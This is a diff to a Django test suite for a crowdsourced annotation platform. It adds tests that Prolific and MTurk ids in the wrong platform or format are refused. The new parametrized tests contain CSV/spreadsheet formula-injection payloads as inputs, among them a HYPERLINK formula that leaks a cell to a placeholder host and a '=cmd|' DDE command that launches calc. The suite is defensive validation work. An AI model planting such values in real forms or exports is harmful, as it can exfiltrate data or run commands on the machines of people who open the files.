@@ -18,6 +18,11 @@ from tests.annotation.builders import ab_campaign, ab_spec, campaign
 
 pytestmark = pytest.mark.django_db
 
+# Ids in the platforms' formats (Prolific: 24 hexadecimal digits).
+PID = "5f1e2d3c4b5a69788796a5b4"
+STUDY = "60aa11bb22cc33dd44ee55ff"
+SESSION = "61ab12bc23cd34de45ef5601"
+
 
 def start(client, c, **params):
     return client.get(f"{reverse('annotation:start', args=[c.slug])}?{urlencode(params)}")
@@ -75,14 +80,14 @@ def test_a_returning_worker_is_not_a_newcomer(settings, client):
 
 def test_a_campaign_takes_few_newcomers_per_minute_from_all_addresses(settings):
     settings.EVALHUB_NEW_WORKERS_PER_CAMPAIGN_PER_MINUTE = 2
-    c = ab_campaign(10, batch_size=1, redundancy=1)
-    other = ab_campaign(10, batch_size=1, redundancy=1)
+    c = ab_campaign(10, batch_size=1, redundancy=1, provider="prolific")
+    other = ab_campaign(10, batch_size=1, redundancy=1, provider="prolific")
     answers = [
-        start(Client(REMOTE_ADDR=f"10.0.0.{n}"), c, PROLIFIC_PID=f"P{n}") for n in range(1, 5)
+        start(Client(REMOTE_ADDR=f"10.0.0.{n}"), c, PROLIFIC_PID=f"{n:024x}") for n in range(1, 5)
     ]
     assert [a.status_code for a in answers] == [302, 302, 429, 429]
     # Another campaign has its own allowance.
-    assert start(Client(REMOTE_ADDR="10.0.0.9"), other, PROLIFIC_PID="P9").status_code == 302
+    assert start(Client(REMOTE_ADDR="10.0.0.9"), other, PROLIFIC_PID=f"{9:024x}").status_code == 302
     assert Worker.objects.count() == 3
 
 
@@ -104,7 +109,7 @@ def test_another_mturk_assignment_presenting_a_workers_id_gets_nothing(client):
     start(client, c, **own)
     assignment = Assignment.objects.get(worker__external_id="AW1")
     intruder = Client()
-    refused = start(intruder, c, **{**own, "assignmentId": "ASG-OTHER"})
+    refused = start(intruder, c, **{**own, "assignmentId": "ASGOTHER"})
     assert refused.status_code == 403
     assert "another session" in refused.content.decode()
     assert SESSION_KEY not in intruder.session
@@ -124,10 +129,10 @@ def prolific_campaign():
 
 def test_a_participants_id_without_a_session_id_gets_neither_batch_nor_code(client):
     c = prolific_campaign()
-    start(client, c, PROLIFIC_PID="P1", STUDY_ID="st", SESSION_ID="S1")
-    assignment = Assignment.objects.get(worker__external_id="P1")
+    start(client, c, PROLIFIC_PID=PID, STUDY_ID=STUDY, SESSION_ID=SESSION)
+    assignment = Assignment.objects.get(worker__external_id=PID)
     intruder = Client()
-    refused = start(intruder, c, PROLIFIC_PID="P1", STUDY_ID="st")
+    refused = start(intruder, c, PROLIFIC_PID=PID, STUDY_ID=STUDY)
     assert refused.status_code == 403
     assert "another session" in refused.content.decode()
     assert SESSION_KEY not in intruder.session
@@ -136,7 +141,7 @@ def test_a_participants_id_without_a_session_id_gets_neither_batch_nor_code(clie
     Assignment.objects.filter(pk=assignment.pk).update(
         status="submitted", completion_code="SECRET-CODE"
     )
-    refused = start(intruder, c, PROLIFIC_PID="P1", STUDY_ID="st")
+    refused = start(intruder, c, PROLIFIC_PID=PID, STUDY_ID=STUDY)
     assert refused.status_code == 403
     assert "SECRET-CODE" not in refused.content.decode()
 
@@ -252,12 +257,85 @@ def test_an_owner_is_refused_under_another_identity_while_logged_in(client, own_
 
 def test_an_identity_linked_to_the_owner_is_refused_when_logged_out(own_and_other_items):
     c, owner, theirs = own_and_other_items
-    Worker.objects.create(provider="prolific", external_id="OWNERPID", user=owner)
+    Campaign.objects.filter(pk=c.pk).update(provider="mturk")
+    Worker.objects.create(provider="mturk", external_id="AOWNER1", user=owner)
     anonymous = Client()
-    for _ in range(2):
-        start(anonymous, c, PROLIFIC_PID="OWNERPID")
-        assignment = Assignment.objects.get(worker__external_id="OWNERPID", status="started")
+    for n in range(2):
+        start(anonymous, c, workerId="AOWNER1", assignmentId=f"ASG{n}")
+        assignment = Assignment.objects.get(worker__external_id="AOWNER1", status="started")
         assert shown_submission(assignment) == theirs
         Assignment.objects.filter(pk=assignment.pk).update(status="submitted")
-    page = start(anonymous, c, PROLIFIC_PID="OWNERPID")
+    page = start(anonymous, c, workerId="AOWNER1", assignmentId="ASG9")
     assert "shows a system you own" in page.content.decode()
+
+
+# Issue 23, findings 3 and 4: platform parameters only on their platform, in its format ------
+
+
+def test_a_prolific_id_does_not_bypass_a_campaign_that_takes_no_worker_ids(client):
+    c = ab_campaign(4, batch_size=2, allow_worker_param=False)
+    assert start(client, c, worker="X").status_code == 403
+    refused = start(client, c, PROLIFIC_PID=PID, STUDY_ID=STUDY, SESSION_ID=SESSION)
+    assert refused.status_code == 400
+    assert "not on Prolific" in refused.content.decode()
+    assert not Worker.objects.exists()
+    assert not Assignment.objects.filter(worker__isnull=False).exists()
+    assert SESSION_KEY not in client.session
+
+
+def test_a_prolific_id_is_refused_on_an_mturk_campaign(client):
+    c = ab_campaign(4, batch_size=2, provider="mturk")
+    refused = start(client, c, PROLIFIC_PID=PID)
+    assert refused.status_code == 400
+    assert not Worker.objects.exists()
+
+
+def test_an_mturk_worker_id_is_refused_on_a_prolific_campaign(client):
+    c = prolific_campaign()
+    refused = start(client, c, workerId="A1B2C3D4E5F6G7", assignmentId="ASG1")
+    assert refused.status_code == 400
+    assert not Worker.objects.exists()
+
+
+def test_a_prolific_participant_in_prolifics_format_gets_work(client):
+    c = prolific_campaign()
+    response = start(client, c, PROLIFIC_PID=PID, STUDY_ID=STUDY, SESSION_ID=SESSION)
+    assignment = Assignment.objects.get(worker__external_id=PID)
+    assert response["Location"] == assignment.get_absolute_url()
+    assert assignment.provider_ref == SESSION
+
+
+@pytest.mark.parametrize(
+    "params",
+    [
+        {"PROLIFIC_PID": "@A1"},
+        {"PROLIFIC_PID": "-1-1"},
+        {"PROLIFIC_PID": PID, "SESSION_ID": '=HYPERLINK("http://x/?l="&A2,"open")'},
+        {"PROLIFIC_PID": PID, "STUDY_ID": "=cmd|' /C calc'!A0"},
+    ],
+)
+def test_prolific_ids_out_of_prolifics_format_are_refused(client, params):
+    c = prolific_campaign()
+    refused = start(client, c, **params)
+    assert refused.status_code == 400
+    assert "not a Prolific id" in refused.content.decode()
+    assert not Worker.objects.exists()
+    assert not Assignment.objects.exclude(provider_ref="").exists()
+
+
+@pytest.mark.parametrize(
+    "params",
+    [
+        {"workerId": "-1-1", "assignmentId": "ASG1"},
+        {"workerId": "@A1", "assignmentId": "ASG1"},
+        {"workerId": "A1B2C3D4E5F6G7", "assignmentId": "=cmd|' /C calc'!A0"},
+        {"workerId": "A1B2C3D4E5F6G7", "assignmentId": "ASG1", "hitId": "+1+1"},
+    ],
+)
+def test_mturk_ids_out_of_mturks_format_are_refused(client, params):
+    c = ab_campaign(4, batch_size=2, provider="mturk")
+    refused = start(client, c, **params)
+    assert refused.status_code == 400
+    assert "not an MTurk" in refused.content.decode()
+    assert not Worker.objects.exists()
+    assert not Assignment.objects.exclude(provider_ref="").exists()
